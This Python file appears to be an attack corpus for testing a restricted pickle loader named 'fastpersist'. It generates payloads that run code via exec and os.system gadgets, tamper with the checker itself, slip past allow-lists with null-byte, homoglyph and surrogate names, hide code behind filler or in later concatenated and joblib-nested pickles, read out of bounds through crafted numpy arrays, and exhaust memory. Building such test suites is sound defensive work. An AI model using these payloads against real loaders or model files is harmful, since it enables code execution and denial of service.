@attack("keys' own hash")
def key_with_its_own_hash(f):
    return f.dict((f.call(f.ours("Hash")), NONE))


@attack("keys' own hash")
def key_with_its_own_hash_in_a_tuple(f):
    return f.dict((f.tuple(f.number(1), f.call(f.ours("Hash"))), NONE))


@attack("members' own hash", protocols=(4, 5))
def member_with_its_own_hash(f):
    return op("EMPTY_SET") + MARK + f.new(f.ours("Hash")) + op("ADDITEMS")


@attack("members' own hash", protocols=(4, 5))
def member_of_a_frozenset_with_its_own_hash(f):
    return MARK + f.new(f.ours("Hash")) + op("FROZENSET")


@attack("members' own hash: a set of older protocols")
def member_of_a_called_set(f):
    return f.call(f.name("builtins", "set"), f.list(f.call(f.ours("Hash"))))


@attack("keys whose hash a state has brought", protocols=(2, 4))
def key_of_a_class_that_build_has_patched(f):
    cls = f.name("collections", "Counter") + f.slots(__hash__=f.ours("mark")) + BUILD
    return f.dict((f.new(cls), NONE))


@attack("Counter counts by hash and comparison")
def counter_of_members_with_their_own_hash(f):
    return f.call(f.name("collections", "Counter"), f.list(f.call(f.ours("Hash"))))


# ---- values that run later


@attack("defaultdict's factory", "value[1] is not None and attack_marks.marks")
def defaultdict_factory(f):
    return f.call(f.name("collections", "defaultdict"), f.ours("mark"))


@attack("defaultdict's factory, a bound call", "value[1] is None and attack_marks.marks")
def defaultdict_factory_that_is_a_partial(f):
    partial = f.call(f.name("functools", "partial"), f.exec_(), f.code())
    return f.call(f.name("collections", "defaultdict"), partial)


@attack(
    "a parameter that is called",
    "value.transform([[1]]) is not None and attack_marks.marks",
    needs="sklearn",
    protocols=(2, 4),
)
def function_transformer(f):
    cls = f.name("sklearn.preprocessing._function_transformer", "FunctionTransformer")
    state = f.attributes(
        func=f.ours("mark"),
        inverse_func=NONE,
        validate=op("NEWFALSE"),
        kw_args=NONE,
        accept_sparse=op("NEWFALSE"),
        feature_names_out=NONE,
    )
    return f.new(cls) + state + BUILD


@attack(
    "a parameter that is called: os.system",
    "value.func is os.system",
    needs="sklearn",
    protocols=(2, 4),
)
def function_transformer_of_os_system(f):
    cls = f.name("sklearn.preprocessing._function_transformer", "FunctionTransformer")
    return f.new(cls) + f.attributes(func=f.name("os", "system")) + BUILD


# ---- what checks


@attack(
    "fickling#249: the file imports what checks it",
    "fastpersist.load.__kwdefaults__ == {'patched': 1}",
)
def patch_of_our_load(f):
    state = f.slots(__kwdefaults__=f.attributes(patched=f.number(1)))
    return f.name("fastpersist", "load") + state + BUILD


@attack(
    "fickling#249: the file imports what checks it",
    "fastpersist.UntrustedError is Exception",
    protocols=(4,),
)
def patch_of_our_exception(f):
    names = f.name("fastpersist", "load.__globals__") + MARK
    return names + f.text("UntrustedError") + f.name("builtins", "Exception") + op("SETITEMS")


@attack("fickling#249: the file imports what checks it", "fastpersist.policy.patched == 1")
def patch_of_our_policy(f):
    return f.name("fastpersist", "policy") + f.attributes(patched=f.number(1)) + BUILD


@attack(
    "GHSA-cffv-grgg-g429: a name that was approved, replaced before it is asked for again",
    protocols=(4,),
)
def name_replaced_behind_a_cache(f):
    first = f.name("collections", "OrderedDict") + POP
    patch = f.name("collections", "namedtuple.__globals__") + MARK
    patch += f.text("OrderedDict") + f.exec_() + op("SETITEMS") + POP
    return first + patch + f.call(f.name("collections", "OrderedDict"), f.code())


@attack(
    "GHSA-cffv-grgg-g429: two names whose keys would be one",
    "value.__name__ == 'Tree'",
    protocols=(4,),
    needs="sklearn",
)
def name_split_elsewhere(f):
    return f.name("sklearn.tree", "_tree.Tree")


@attack("names that are nearly approved", "", protocols=(4,))
def name_with_a_null(f):
    return f.name("collections\0", "OrderedDict")


@attack("names that are nearly approved", "", protocols=(4,))
def name_with_a_null_at_its_end(f):
    return f.name("collections", "OrderedDict\0x")


@attack("names that are nearly approved", "", protocols=(4,))
def name_with_a_blank(f):
    return f.name("collections", "OrderedDict ")


@attack("names that are nearly approved", "", protocols=(4,))
def name_in_other_letters(f):
    return f.name("collections", "Ordered\u0415ict")


@attack("names that are nearly approved", "", protocols=(4,))
def name_with_a_lone_surrogate(f):
    return f.name("collections", "Ordered\ud800")


@attack("names that are nearly approved", "", protocols=(2, 4))
def name_that_is_empty(f):
    return f.name("collections", "")


@attack("names that are nearly approved", "", protocols=(2, 4))
def module_that_is_empty(f):
    return f.name("", "OrderedDict")


@attack("names that are nearly approved", "", protocols=(2, 4))
def module_with_a_dot_at_its_end(f):
    return f.name("collections.", "OrderedDict")


@attack("a relative module", "", protocols=(2, 4))
def module_that_is_relative(f):
    return f.name(".collections", "OrderedDict")


@attack("private names of a module that is approved", "callable(value)", needs="sklearn")
def function_of_a_module_that_is_approved(f):
    return f.name("sklearn.linear_model._base", "make_dataset")


@attack(
    "another library's name, re-exported by a module that is approved",
    "value is warnings",
    needs="sklearn",
)
def name_that_a_module_that_is_approved_has_imported(f):
    return f.name("sklearn.base", "warnings")


# ---- persistent identifiers, buffers


@attack("persistent identifiers", "", protocols=OLD_AND_NEW)
def persistent_identifier(f):
    return op("PERSID", "anything")


@attack("persistent identifiers", "", protocols=(2, 4))
def binary_persistent_identifier(f):
    return f.text("anything") + op("BINPERSID")


@attack("buffers that nobody brought", "", protocols=(5,))
def buffer_without_a_sidecar(f):
    return op("NEXT_BUFFER")


@attack("buffers that nobody brought", "", protocols=(5,), outcome=HARMLESS)
def readonly_buffer_of_bytes(f):
    return f.data(b"abc") + op("READONLY_BUFFER")


# ---- memory


def _ndarray(f: Form, dtype: bytes, *more: bytes) -> bytes:
    buffer = op("BYTEARRAY8", b"A" * 64)
    return f.call(f.name("numpy", "ndarray"), f.tuple(f.number(4)), dtype, buffer, *more)


@attack("TRUST: object pointers from the file", "", protocols=(5,))
def ndarray_of_objects_over_bytes(f):
    return _ndarray(f, f.text("O"))


@attack("TRUST: object pointers from the file", "", protocols=(5,))
def ndarray_of_records_with_objects_over_bytes(f):
    return _ndarray(f, f.text("i8,O"))


@attack("TRUST: beyond the buffer", "", protocols=(5,))
def ndarray_beyond_its_buffer(f):
    strides = f.tuple(f.number(1 << 40))
    return _ndarray(f, f.text("<f8"), f.number(0), strides)


@attack("TRUST: before the buffer", "", protocols=(5,))
def ndarray_before_its_buffer(f):
    return _ndarray(f, f.text("<f8"), f.number(-64))


def _dtype(f: Form, text: str, *state: bytes) -> bytes:
    made = f.call(f.name("numpy", "dtype"), f.text(text), op("NEWFALSE"), op("NEWTRUE"))
    return made + f.tuple(*state) + BUILD


@attack("TRUST: a field of objects with flags 0", "", protocols=(4, 5))
def dtype_that_hides_objects(f):
    objects = f.call(f.name("numpy", "dtype"), f.text("O"), op("NEWFALSE"), op("NEWTRUE"))
    fields = f.dict((f.text("a"), f.tuple(objects, f.number(0))))
    state = [f.number(3), f.text("|"), NONE, f.tuple(f.text("a")), fields]
    dtype = _dtype(f, "V8", *state, f.number(8), f.number(1), f.number(0))
    return _ndarray(f, dtype)


@attack("TRUST: an offset beyond the item", "", protocols=(4, 5))
def dtype_with_a_field_beyond_its_end(f):
    number = f.call(f.name("numpy", "dtype"), f.text("f8"), op("NEWFALSE"), op("NEWTRUE"))
    fields = f.dict((f.text("a"), f.tuple(number, f.number(1 << 20))))
    state = [f.number(3), f.text("|"), NONE, f.tuple(f.text("a")), fields]
    return _dtype(f, "V8", *state, f.number(8), f.number(1), f.number(0))


@attack("numpy/numpy#28316", "", protocols=(4, 5))
def scalar_of_objects(f):
    objects = f.call(f.name("numpy", "dtype"), f.text("O"), op("NEWFALSE"), op("NEWTRUE"))
    return f.call(f.name("numpy._core.multiarray", "scalar"), objects, f.data(b"A" * 8))


@attack("memory taken by a number", "", protocols=(4, 5))
def bytearray_of_a_number(f):
    return f.call(f.name("builtins", "bytearray"), f.number(1 << 46))


@attack("memory taken by a number", "", protocols=(4, 5))
def set_of_a_range(f):
    numbers = f.call(f.name("builtins", "range"), f.number(0), f.number(1 << 46))
    return f.call(f.name("builtins", "set"), numbers)


@attack("memory taken by a number", "", protocols=(4, 5), outcome=HARMLESS)
def array_of_a_huge_shape(f):
    shape = f.tuple(f.number(1 << 46))
    function = f.name("numpy._core.multiarray", "_reconstruct")
    return f.call(function, f.name("numpy", "ndarray"), shape, f.data(b"b"))


@attack("time taken by a text", "", protocols=(4, 5), outcome=HARMLESS)
def fraction_of_a_huge_exponent(f):
    return f.call(f.name("fractions", "Fraction"), f.text("1e99999999999"))


@attack("time taken by a text", "", protocols=(4, 5), outcome=HARMLESS)
def key_that_is_a_decimal_of_a_huge_exponent(f):
    number = f.call(f.name("decimal", "Decimal"), f.text("1e999999999999999999"))
    return f.dict((number, NONE))


# ---- laughs, numbers, lengths

LEVELS = 60


@attack("fickling#111", "", protocols=(2, 4), outcome=HARMLESS)
def laughs_by_dup(f):
    return f.tuple() + (DUP + op("TUPLE2")) * LEVELS


@attack("fickling#111", "", protocols=(2, 4), outcome=HARMLESS)
def laughs_by_memo(f):
    out = f.list()
    for i in range(LEVELS):
        get = op("BINGET", i)
        out += op("BINPUT", i) + POP + op("EMPTY_LIST") + MARK + get * 10 + op("APPENDS")
    return out


@attack("fickling#111: the hash of nested tuples", "", protocols=(2, 4), outcome=HARMLESS)
def laughs_as_a_key(f):
    return op("EMPTY_DICT") + f.tuple() + (DUP + op("TUPLE2")) * LEVELS + NONE + op("SETITEM")


@attack("fickling#111: comparing nested tuples", "", protocols=(2, 4), outcome=HARMLESS)
def laughs_as_two_equal_keys(f):
    key = f.tuple() + (DUP + op("TUPLE2")) * LEVELS
    return op("EMPTY_DICT") + MARK + key + NONE + key + NONE + op("SETITEMS")


@attack("fickling#111: frozensets of frozensets", "", protocols=(4, 5), outcome=HARMLESS)
def laughs_of_frozensets(f):
    out = MARK + op("FROZENSET") + op("BINPUT", 0) + POP
    for i in range(LEVELS):
        pair = MARK + op("BINGET", i) + op("BINGET", i) + op("TUPLE") + op("BINGET", i)
        out += MARK + pair + op("FROZENSET") + op("BINPUT", i + 1) + POP
    return out + op("BINGET", LEVELS)


@attack("fickling#111: a set of nested tuples", "", protocols=(4, 5), outcome=HARMLESS)
def laughs_as_a_member(f):
    key = f.tuple() + (DUP + op("TUPLE2")) * LEVELS
    return op("EMPTY_SET") + MARK + key + op("ADDITEMS")


@attack("cpython#115952", "", protocols=(2, 4), outcome=HARMLESS)
def put_of_a_large_number(f):
    return NONE + op("PUT", 10**9)


@attack("cpython#115952", "", protocols=(2, 4), outcome=HARMLESS)
def put_of_the_largest_number(f):
    return NONE + op("LONG_BINPUT", 0xFFFFFFFF)


@attack("cpython#115952", "", protocols=(0, 4), outcome=HARMLESS)
def put_of_a_number_of_many_digits(f):
    return NONE + op("PUT", "9" * 400)


@attack("cpython#115952", "", protocols=(0, 4), outcome=HARMLESS)
def put_of_a_negative_number(f):
    return NONE + op("PUT", "-1")


def _claims(name: str, n: int) -> bytes:
    packed = struct.pack(_COUNTED[OPCODES[name].arg.name].replace("i", "I"), n)
    return OPCODES[name].code.encode("latin1") + packed + b"few"


for _name, _n in {
    "BINBYTES": 0xFFFFFFFF,
    "BINBYTES8": 1 << 63,
    "BINUNICODE": 0xFFFFFFFF,
    "BINUNICODE8": (1 << 63) - 1,
    "BYTEARRAY8": (1 << 63) - 1,
    "BINSTRING": 0xFFFFFFFF,
    "LONG4": 0xFFFFFFFF,
}.items():

    def _lies(f, name=_name, n=_n):
        return _claims(name, n)

    _lies.__name__ = f"length of {_name} that lies"
    attack("cpython#115952", "", protocols=(5,), outcome=HARMLESS)(_lies)


@attack("cpython#115952", "", protocols=(4, 5), outcome=HARMLESS)
def length_of_a_frame_that_lies(f):
    return op("FRAME", (1 << 63) - 1) + NONE


for _i, _text in enumerate(
    [
        op("INT", "1_0"),
        op("INT", "0x10"),
        op("INT", " 7"),
        op("INT", ""),
        op("INT", "9" * 5000),
        op("LONG", "9" * 5000 + "L"),
        op("LONG", "L"),
        op("LONG", "7LL"),
        op("FLOAT", "1_0.5"),
        op("FLOAT", "nan"),
        op("FLOAT", "1e400"),
        op("FLOAT", ""),
        op("FLOAT", "0x1p3"),
        op("LONG1", b""),
        op("LONG1", b"\xff" * 255),
        op("BINFLOAT", float("inf")),
        op("STRING", "'\\x4'"),
        op("STRING", "'"),
        op("STRING", "\"'"),
        op("UNICODE", rb"\ud800"),
        op("UNICODE", rb"\U00110000"),
        op("BINUNICODE", b"\xed\xa0\x80"),
        op("BINUNICODE", b"\xff"),
        op("GET", "x"),
        op("PUT", ""),
    ]
):

    def _edge(f, text=_text):
        return text

    _edge.__name__ = f"number or text at an edge, {_i}"
    attack("cpython#135241, #135321, #144410, #135573", "", (0, 4), HARMLESS)(_edge)


# ---- frames, streams, several


def _frame(opcodes: bytes, n: int | None = None) -> bytes:
    return op("FRAME", len(opcodes) if n is None else n) + opcodes


@whole("cpython#154848", always=False)
def frames_that_straddle():
    body = Form(4).payload() + STOP
    out = {}
    for n in (1, 5, 10, 20):
        out[f"{n} bytes"] = proto(4) + _frame(body, n)
        out[f"two of {n}"] = proto(4) + _frame(body[:n]) + _frame(body[n:])
    return out


@whole("cpython#128853: a frame begins within a frame", always=False)
def frames_that_begin_early():
    body = Form(4).payload() + STOP
    inner = _frame(body)
    return {
        "inside": proto(4) + _frame(NONE + POP + inner),
        "of no bytes": proto(4) + _frame(b"") + _frame(b"") + body,
        "behind one that is too short": proto(4) + _frame(inner, 4),
        "longer than the file": proto(4) + _frame(body, 1 << 20),
    }


@whole("cpython#128853: frames in a protocol that has none")
def frames_of_an_old_protocol():
    return {f"protocol {p}": proto(p) + _frame(Form(p).payload() + STOP) for p in (0, 2, 3)}


@whole("nullifAI: what comes first has run when the rest turns out to be broken")
def code_then_a_broken_stream():
    body = proto(4) + Form(4).payload()
    return {
        "an opcode that is none": body + b"\xff\xfe" + STOP,
        "cut": body,
        "cut inside a text": body + b"\x8c\x20abc",
        "empty stack": body + POP + POP + POP + STOP,
        "a later protocol": body + b"\x80\x09" + STOP,
        "a number that is none": body + op("INT", "x") + STOP,
        "text that is none": body + b"X\1\0\0\0\xff" + STOP,
        "old": plain(0, Form(0).payload())[:-1] + b"\xff",
    }


@whole("nullifAI: code at the very end")
def code_behind_much():
    filler = op("BINBYTES", bytes(1 << 20)) + POP
    return {"1 MiB": plain(4, filler + Form(4).payload())}


BENIGN = plain(4, Form(4).list(Form(4).number(1)))


@whole("GHSA-97f8-7cmv-76j2", outcome=HARMLESS)
def several_pickles():
    hostile = plain(4, Form(4).payload())
    return {
        "the second": BENIGN + hostile,
        "the third": BENIGN + BENIGN + plain(0, Form(0).payload()),
    }


@whole("GHSA-97f8-7cmv-76j2")
def several_pickles_the_first_of_which_is_hostile():
    return {"the first": plain(4, Form(4).payload()) + BENIGN}


@whole("PROTO in the middle")
def protocols_mixed():
    old, new = Form(0), Form(4)
    return {
        "names by GLOBAL in protocol 4": plain(4, old.payload()),
        "PROTO 2, then 4": proto(2) + proto(4) + new.payload() + STOP,
        "PROTO in the middle": proto(4)
        + new.exec_()
        + proto(0)
        + proto(2)
        + new.tuple(new.code())
        + REDUCE
        + STOP,
        "STACK_GLOBAL without PROTO": new.payload() + STOP,
    }


# ---- joblib's layout


def _joblib(value: object) -> bytes:
    import joblib

    file = io.BytesIO()
    joblib.dump(value, file)
    return file.getvalue()


def behind_an_array(opcodes: bytes) -> bytes:
    """In joblib's layout: an array and its bytes first, dropped for what follows."""
    import numpy as np

    return _joblib(np.arange(5))[:-1] + POP + opcodes + STOP


def in_an_object_array(pickled: bytes) -> bytes:
    """In joblib's layout, the elements of an object array are a pickle of their own."""
    import numpy as np

    data = _joblib(np.array([None, "a"], object))
    start = data.index(b"\x80", 2)
    return data[:start] + pickled + data[-1:]


@whole("CVE-2025-32434: a legacy path beside the allow-list; joblib's nested pickles")
def object_array_of_joblib():
    out = {}
    for protocol in (0, 2, 4):
        out[f"protocol {protocol}"] = in_an_object_array(plain(protocol, Form(protocol).payload()))
    deep = in_an_object_array(in_an_object_array(plain(4, Form(4).payload())))
    out["two levels"] = deep
    return out


@whole("the class of an array of joblib's")
def subclass_of_an_array_of_joblib():
    import attack_marks
    import numpy as np

    data = _joblib(np.arange(5).view(attack_marks.Array))
    attack_marks.marks.clear()
    return {"of its dump": data}


@whole("CVE-2025-32434: joblib's own old reader", "", REFUSED)
def files_of_old_joblib():
    f = Form(2)
    body = zlib.compress(plain(2, f.payload()))
    old = f.new(f.name("joblib.numpy_pickle", "NDArrayWrapper"))
    old += f.attributes(filename=f.text("../secret.npy"), subclass=f.name("numpy", "ndarray"))
    compressed = f.new(f.name("joblib.numpy_pickle_compat", "ZNDArrayWrapper"))
    compressed += f.attributes(
        filename=f.text("x.z"),
        init_args=f.tuple(f.ours("Array"), f.tuple(), f.data(b"b")),
        state=NONE,
    )
    return {
        "ZF": b"ZF" + hex(len(body)).ljust(19).encode() + body,
        "NDArrayWrapper": plain(2, old + BUILD),
        "ZNDArrayWrapper": plain(2, compressed + BUILD),
        "its other name": plain(
            2, (old + BUILD).replace(b"numpy_pickle\n", b"numpy_pickle_compat\n")
        ),
    }


# ---------------------------------------------------------------- codecs


def codecs() -> dict[str, tuple[str, Callable[[bytes], bytes]]]:
    """How each codec's stream is made, and the extension that goes with it."""
    import bz2
    import gzip
    import lzma

    def lz4(data: bytes) -> bytes:
        """One frame of stored blocks."""
        out = b"\x04\x22\x4d\x18\x60\x70\x73"
        for i in range(0, len(data), 1 << 22):
            block = data[i : i + (1 << 22)]
            out += struct.pack("<I", len(block) | 1 << 31) + block
        return out + bytes(4)

    def zstd(data: bytes) -> bytes:
        """One frame of stored blocks, of a window of 1 MiB."""
        out = b"\x28\xb5\x2f\xfd\0\x50"
        for i in range(0, len(data), 1 << 17):
            block = data[i : i + (1 << 17)]
            last = i + (1 << 17) >= len(data)
            out += (last | len(block) << 3).to_bytes(3, "little") + block
        return out

    return {
        "zlib": (".z", zlib.compress),
        "gzip": (".gz", gzip.compress),
        "bz2": (".bz2", bz2.compress),
        "xz": (".xz", lzma.compress),
        "lzma": (".lzma", lambda data: lzma.compress(data, lzma.FORMAT_ALONE)),
        "lz4": (".lz4", lz4),
        "zstd": (".zst", zstd),
    }


# ---------------------------------------------------------------- gadgets


def gadget_forms(module: str, name: str) -> dict[str, bytes]:
    """A call of a function in every way that pickles have."""
    out = {}
    arguments = {"a text": (CODE,), "nothing": (), "two texts": ("attack_marks", "mark")}
    for protocol in (0, 2, 4):
        f = Form(protocol)
        for what, texts in arguments.items():
            call = f.call(f.name(module, name), *map(f.text, texts))
            out[f"REDUCE, protocol {protocol}, {what}"] = plain(protocol, call)
    f = Form(2)
    out["NEWOBJ"] = plain(4, Form(4).new(Form(4).name(module, name), Form(4).code()))
    out["OBJ"] = plain(2, MARK + f.name(module, name) + f.code() + op("OBJ"))
    out["INST"] = plain(2, MARK + f.code() + op("INST", f"{module} {name}"))
    out["BUILD"] = plain(4, Form(4).name(module, name) + Form(4).slots(a=NONE) + BUILD)
    out["referred to"] = plain(4, Form(4).list(Form(4).name(module, name)))
    return out


# ---------------------------------------------------------------- approved names, misused


def misuses(module: str, name: str) -> dict[str, tuple[bytes, bool]]:
    """Pickles that put an approved name to a use that it is not approved for: by what they do, and
    whether each must be refused, whatever the name. Others may be refused or give a value."""
    f = Form(4)
    found = f.name(module, name)
    one = f.number(1)
    own = f.new(found)
    huge = f.number(1 << 40)
    uses = {
        "state on the name": found + f.attributes(marked=one) + BUILD,
        "slots on the name": found + f.slots(marked=one) + BUILD,
        "item on the name": found + f.text("marked") + one + op("SETITEM"),
        "items on the name": found + MARK + f.text("marked") + one + op("SETITEMS"),
        "append to the name": found + one + op("APPEND"),
        "appends to the name": found + MARK + one + op("APPENDS"),
        "additems to the name": found + MARK + one + op("ADDITEMS"),
        "INST": MARK + one + op("INST", f"{module} {name}"),
        "OBJ": MARK + found + one + op("OBJ"),
        "keywords": found + f.tuple() + f.attributes(a=one) + op("NEWOBJ_EX"),
        "call of what is below": f.call(f.name(module, f"{name}.__init__"), one),
        "class of it": f.name(module, f"{name}.__class__"),
        "globals below": f.name(module, f"{name}.__init__.__globals__"),
        "subclasses": f.call(f.name(module, f"{name}.__subclasses__")),
        "in place of a method": own + f.attributes(__reduce__=found) + BUILD,
        "class in a state": own + f.slots(__class__=found) + BUILD,
        "dict in a state": own + f.slots(__dict__=f.attributes(a=one)) + BUILD,
        "setstate in a state": own + f.attributes(__setstate__=found) + BUILD,
        "address in a state": own + f.attributes(__array_interface__=interface(f)) + BUILD,
        "address as an item": own
        + MARK
        + f.text("__array_interface__")
        + interface(f)
        + op("SETITEMS")
        + NONE
        + op("POP"),
    }
    may = {
        "called with nothing": f.call(found),
        "called with code": f.call(found, f.code()),
        "called with two": f.call(found, f.code(), one),
        "called with itself": f.call(found, found),
        "called with itself and more": f.call(found, found, f.tuple(one), f.data(b"b")),
        "called with bytes": f.call(found, f.data(b"\xff" * 64)),
        "called with a large number": f.call(found, huge),
        "called with a shape": f.call(found, f.tuple(huge), f.text("O"), f.data(b"A" * 64)),
        "called with a list": f.call(found, f.list(one, f.text("x"))),
        "called with a dict": f.call(found, f.attributes(a=one)),
        "called with its instance": f.call(found, own),
        "called with large numbers": f.call(found, huge, huge, huge),
        "called with negative numbers": f.call(found, f.number(-1), f.number(-(1 << 40))),
        "made with code": f.new(found, f.code()),
        "made with a large number": f.new(found, huge),
        "made": own,
        "a text for its state": own + f.code() + BUILD,
        "a number for its state": own + huge + BUILD,
        "a list for its state": own + f.list(one) + BUILD,
        "a tuple for its state": own + f.tuple(one, huge, f.data(b"A" * 8), f.list()) + BUILD,
        "an empty state": own + f.dict() + BUILD,
        "keys that are numbers": own + f.dict((one, one)) + BUILD,
        "keys that are names": own + f.dict((found, one)) + BUILD,
        "a state of texts": own + f.attributes(a=f.code(), shape=huge, n_features_in_=huge) + BUILD,
        "two states": own + f.attributes(a=one) + BUILD + f.attributes(a=huge) + BUILD,
        "itself as its state": own + MEMOIZE + op("BINGET", 0) + BUILD,
        "as a key": f.dict((own, one)),
        "as a member": op("EMPTY_SET") + MARK + own + op("ADDITEMS"),
        "with items": own + MARK + one + one + op("SETITEMS"),
        "with elements": own + MARK + one + op("APPENDS"),
        "with members": own + MARK + one + op("ADDITEMS"),
        "by copyreg": f.call(
            f.name("copyreg", "_reconstructor"), found, f.name("builtins", "object"), NONE
        ),
        "by copyreg, on a base": f.call(
            f.name("copyreg", "_reconstructor"), found, f.name("builtins", "dict"), f.list()
        ),
        "as a base for copyreg": f.call(
            f.name("copyreg", "_reconstructor"), f.name("collections", "Counter"), found, f.code()
        ),
        "by copyreg's newobj": f.call(f.name("copyreg", "__newobj__"), found, huge),
        "by _reconstruct": f.call(
            f.name("numpy._core.multiarray", "_reconstruct"), found, f.tuple(huge), f.data(b"b")
        ),
        "by a generator's constructor": f.call(
            f.name("numpy.random._pickle", "__generator_ctor"), f.text("MT19937"), found
        ),
        "as a factory": f.call(f.name("collections", "defaultdict"), found),
        "as a dtype": f.call(f.name("numpy", "dtype"), found),
        "its instance as a dtype": f.call(f.name("numpy", "dtype"), own),
        "by _new_Index": f.call(f.name("pandas.core.indexes.base", "_new_Index"), found, f.dict()),
        "by newObj": f.call(f.name("sklearn.neighbors._kd_tree", "newObj"), found),
    }
    out = {what: (plain(4, body), True) for what, body in uses.items()}
    return out | {what: (plain(4, body), False) for what, body in may.items()}
